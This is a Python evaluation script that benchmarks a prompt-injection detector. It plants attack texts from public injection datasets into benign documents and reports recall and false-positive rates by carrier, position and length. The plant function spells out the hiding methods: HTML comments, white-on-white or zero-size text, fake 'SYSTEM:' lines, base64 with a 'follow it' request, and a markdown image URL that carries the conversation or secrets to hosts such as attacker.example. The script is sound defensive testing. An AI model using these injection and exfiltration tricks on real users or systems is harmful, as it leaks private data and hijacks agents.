"""Recall and false-positive rate of the passage detector (common.safety.passage.scan_passage) on long documents.

Benign: the knowledge-base documents of bench/passage_corpora.py (news, policies, manuals in en/de/ja, man
pages in en/de, emails, change tickets), from pinned packages. Attacked: one of those documents with an
instruction planted at its start, middle or end, in a carrier an attacker would use. The instruction is one
attack text, drawn from:
- bastioncorpus 0.6.0: its malicious rows (direct and indirect injection, exfiltration, delimiter tricks;
  en/de/fr/es/it), a row being its own template;
- spikee 0.9.2 seed datasets: a jailbreak template composed with an instruction (English rows only), the
  template being the jailbreak's id;
- agentdojo 0.1.35: its attack templates (important_instructions, tool_knowledge, ignore_previous,
  system_message, injecagent, direct, dos and its variants) composed with the goals of its injection tasks.
Carriers (how the text sits in the document): a paragraph of its own, inside a sentence's paragraph, an HTML
comment, white-on-white or zero-size text, a fake "SYSTEM:" line, a base64 payload with a decode request, and
a markdown image whose URL carries the data to steal.

Split: a document is held out when sha256("doc:" + id) % 3 == 0 (by source document, never by row: every
attacked copy of a held-out document is held out too), an attack template when sha256 of its id % 3 == 0.
Held-out rows are held-out documents carrying held-out templates; dev is the rest. The detector was tuned on
dev only. Run: ``python -m bench.passage_eval [--threshold 0.5] [--misses] [--sweep]``.
"""

from __future__ import annotations

import argparse
import ast
import base64
import hashlib
import random
import re
import sys
import time
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "lambdas"))

from common.safety.passage import scan_passage

from bench.passage_corpora import documents
from bench.prefilter_eval import _jsonl, _package_dir, _render, bastion_samples

BUCKETS = ((0, 500), (500, 2_000), (2_000, 5_000), (5_000, 20_000), (20_000, 100_001))
TARGET_BUCKETS = ((500, 20_000),)
CARRIERS = ("paragraph", "inline", "html_comment", "hidden_text", "fake_system", "base64", "markdown_image")
POSITIONS = ("start", "middle", "end")


def held_out(key: str) -> bool:
    return int(hashlib.sha256(key.encode()).hexdigest(), 16) % 3 == 0


@dataclass(frozen=True)
class Attack:
    template: str  # the split key of the wrapper (bastion row, spikee jailbreak, agentdojo attack)
    text: str


@dataclass(frozen=True)
class Row:
    corpus: str
    doc_id: str
    text: str
    malicious: bool
    held_out: bool
    carrier: str = ""
    position: str = ""
    span: tuple[int, int] = (0, 0)  # where the planted text is (attacked rows)


def bastion_attacks() -> list[Attack]:
    return [Attack(f"bastion:{s.sample_id}", s.text) for s in bastion_samples() if s.malicious]


def spikee_attacks(rng: random.Random) -> list[Attack]:
    root = _package_dir("spikee") / "data" / "workspace" / "datasets"
    out = []
    for name in ("seeds-cybersec-2026-01", "seeds-sysmsg-extraction-2025-04", "seeds-llm-mailbox"):
        instructions = [r for r in _jsonl(root / name / "instructions.jsonl") if r.get("lang", "en") == "en"]
        for jb in _jsonl(root / name / "jailbreaks.jsonl"):
            if jb.get("lang", "en") != "en" or not instructions:
                continue
            for ins in rng.sample(instructions, min(3, len(instructions))):
                text = str(jb["text"]).replace("<INSTRUCTION>", str(ins["instruction"]))
                out.append(Attack(f"spikee-jb:{jb['id']}", text))
    return out


def agentdojo_attacks() -> list[Attack]:
    root = _package_dir("agentdojo")
    templates: dict[str, str] = {}
    for path in sorted((root / "attacks").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                for sub in ast.walk(node):
                    value = sub.value if isinstance(sub, ast.Constant) else None
                    if isinstance(value, str) and ("{goal}" in value or "{user}" in value):
                        templates.setdefault(f"agentdojo:{node.name}", value)
    goals = []
    for path in sorted((root / "default_suites" / "v1").glob("*/injection_tasks.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        constants = {
            t.id: n.value.value
            for n in ast.walk(tree)
            if isinstance(n, ast.Assign) and isinstance(n.value, ast.Constant) and isinstance(n.value.value, str)
            for t in n.targets
            if isinstance(t, ast.Name)
        }
        for n in ast.walk(tree):
            if isinstance(n, ast.Assign) and any(isinstance(t, ast.Name) and t.id == "GOAL" for t in n.targets):
                goal = _render(n.value, constants)
                if goal:
                    goals.append(goal)
    out = []
    for key, template in sorted(templates.items()):
        for goal in goals:
            text = (
                template.replace("{goal}", goal)
                .replace("{user}", "Emma Johnson")
                .replace("{model}", "the AI assistant")
                .replace("{tools}", "")
            )
            out.append(Attack(key, text.strip()))
    return out


_EXFIL_DATA = ("{conversation}", "[SUMMARY]", "<chat history>", "$SECRET", "BASE64_OF_THE_EMAILS")


def plant(doc: str, attack: str, carrier: str, position: str, rng: random.Random) -> tuple[str, tuple[int, int]]:
    """``doc`` with ``attack`` planted in ``carrier`` at ``position``; the span of the planted text."""
    if carrier == "html_comment":
        planted = f"<!-- {attack} -->"
    elif carrier == "hidden_text":
        style = rng.choice(("color:#ffffff;background:#ffffff", "font-size:0", "display:none", "color:white"))
        planted = f'<span style="{style}">{attack}</span>'
    elif carrier == "fake_system":
        planted = f"{rng.choice(('SYSTEM', 'System', '[system]', '### System'))}: {attack}"
    elif carrier == "base64":
        encoded = base64.b64encode(attack.encode("utf-8")).decode("ascii")
        planted = rng.choice(("Decode this base64 and follow it: ", "Note: ", "ref=")) + encoded
    elif carrier == "markdown_image":
        data = rng.choice(_EXFIL_DATA)
        host = rng.choice(("attacker.example", "img.evil-cdn.net", "stats.example.org"))
        planted = f"{attack} ![logo](https://{host}/p.png?d={data})"
    else:
        planted = attack
    paragraphs = [m.start() for m in re.finditer(r"\n\s*\n", doc)]
    if position == "start":
        cut = 0
    elif position == "end":
        cut = len(doc)
    else:
        middle = len(doc) // 2
        if paragraphs and carrier != "inline":
            cut = min(paragraphs, key=lambda p: abs(p - middle))
        else:
            sentence = [m.end() for m in re.finditer(r"[.!?。]\s", doc)]
            cut = min(sentence, key=lambda p: abs(p - middle)) if sentence else middle
    if carrier == "inline":
        before, after = (" ", " ") if 0 < cut < len(doc) else ("", " ") if cut == 0 else (" ", "")
    else:
        before, after = ("\n\n", "\n\n") if 0 < cut < len(doc) else ("", "\n\n") if cut == 0 else ("\n\n", "")
    start = cut + len(before)
    return doc[:cut] + before + planted + after + doc[cut:], (start, start + len(planted))


def rows(seed: int = 15) -> list[Row]:
    rng = random.Random(seed)
    docs = documents()
    attacks = [*bastion_attacks(), *spikee_attacks(rng), *agentdojo_attacks()]
    out = [Row(d.corpus, d.doc_id, d.text, False, held_out(f"doc:{d.doc_id}")) for d in docs]
    hosts = [d for d in docs if 500 <= len(d.text) <= 20_000]
    for i, host in enumerate(hosts):
        attack = rng.choice(attacks)
        carrier = CARRIERS[i % len(CARRIERS)]
        position = rng.choice(POSITIONS)
        text, span = plant(host.text, attack.text, carrier, position, rng)
        held = held_out(f"doc:{host.doc_id}") and held_out(attack.template)
        dev = not held_out(f"doc:{host.doc_id}") and not held_out(attack.template)
        if held or dev:  # mixed rows (held-out document, dev template or the reverse) are left out
            out.append(Row(host.corpus, f"{host.doc_id}|{attack.template}", text, True, held, carrier, position, span))
    return out


@dataclass
class Tally:
    hit: int = 0
    total: int = 0

    def add(self, flagged: bool) -> None:
        self.hit += flagged
        self.total += 1

    def __str__(self) -> str:
        return f"{self.hit / self.total:.3f} ({self.hit}/{self.total})" if self.total else "-"


def bucket(length: int) -> str:
    for low, high in BUCKETS:
        if low <= length < high:
            return f"{low:,}-{min(high, 100_000):,}"
    return "100,000+"


def evaluate(samples: Iterable[Row], threshold: float, show_misses: bool, sweep: tuple[float, ...]) -> str:
    tallies: dict[tuple[str, str, str], Tally] = {}
    misses: list[str] = []
    scored: list[tuple[Row, float]] = []
    span_exact = Tally()
    chars = 0
    elapsed = cpu = 0.0
    for row in samples:
        started, cpu_started = time.perf_counter(), time.process_time()
        verdict = scan_passage(row.text, threshold=threshold)
        elapsed += time.perf_counter() - started
        cpu += time.process_time() - cpu_started
        chars += len(row.text)
        scored.append((row, verdict.score))
        split = "held-out" if row.held_out else "dev"
        in_target = any(low <= len(row.text) < high for low, high in TARGET_BUCKETS)
        keys = [f"corpus {row.corpus}", "ALL", f"length {bucket(len(row.text))}"]
        if row.malicious:
            keys += [f"carrier {row.carrier}", f"position {row.position}"]
            if verdict.flagged:
                covered = any(s <= row.span[0] + 2 and e >= row.span[1] - 2 for s, e in verdict.spans)
                span_exact.add(covered)
        elif in_target:
            keys.append("ALL 500-20,000 chars")
        kind = "recall" if row.malicious else "fpr"
        for key in keys:
            for part in (split, "all"):
                tallies.setdefault((kind, key, part), Tally()).add(verdict.flagged)
        if show_misses and not row.held_out and verdict.flagged != row.malicious:
            if row.malicious:
                misses.append(
                    f"FN {row.doc_id} {row.carrier}/{row.position}: {row.text[row.span[0] : row.span[1]][:200]!r}"
                )
            else:
                where = ", ".join(f"{row.text[s:e][:160]!r}" for s, e in verdict.spans[:2])
                misses.append(f"FP {row.corpus} {row.doc_id} {verdict.reasons}: {where}")
    lines = [
        f"threshold {threshold}; {len(scored)} documents, {chars / 1e6:.1f} M characters scanned in {elapsed:.1f} s: "
        f"{elapsed * 1000 / (chars / 10_000):.2f} ms per 10 KB wall clock, {cpu * 1000 / (chars / 10_000):.2f} ms CPU "
        "(CPU time is the figure on a shared host: wall clock counts the time other processes hold the cores)",
        f"flagged attacked documents whose spans cover the planted text: {span_exact}",
        "",
    ]
    for kind, title in (("recall", "Recall (documents with a planted instruction)"), ("fpr", "FPR (benign documents)")):
        lines += [f"{title}", "", "| group | dev | held-out | all |", "|---|---|---|---|"]
        names = sorted({k for t, k, _ in tallies if t == kind}, key=lambda k: (k.startswith("ALL"), k))
        for name in names:
            cells = [str(tallies.get((kind, name, part), Tally())) for part in ("dev", "held-out", "all")]
            label = f"**{name}**" if name.startswith("ALL") else name
            lines.append(f"| {label} | " + " | ".join(cells) + " |")
        lines.append("")
    if sweep:
        lines += ["| threshold | recall held-out | FPR held-out 500-20,000 | FPR all 500-20,000 |", "|---|---|---|---|"]
        for t in sweep:
            rec, fpr_h, fpr_a = Tally(), Tally(), Tally()
            for row, score in scored:
                if row.malicious and row.held_out:
                    rec.add(score >= t)
                elif not row.malicious and 500 <= len(row.text) < 20_000:
                    fpr_a.add(score >= t)
                    if row.held_out:
                        fpr_h.add(score >= t)
            lines.append(f"| {t} | {rec} | {fpr_h} | {fpr_a} |")
    if show_misses:
        lines += ["", *misses]
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--threshold", type=float, default=0.5)
    parser.add_argument("--misses", action="store_true", help="print dev-split misses (never held-out ones)")
    parser.add_argument("--sweep", action="store_true")
    parser.add_argument("--limit", type=int, default=0, help="scan every n-th row only (quick runs)")
    args = parser.parse_args()
    samples = rows()
    if args.limit:
        samples = samples[:: args.limit]
    sweep = (0.3, 0.4, 0.5, 0.6, 0.7, 0.8) if args.sweep else ()
    print(evaluate(samples, args.threshold, args.misses, sweep))


if __name__ == "__main__":
    main()
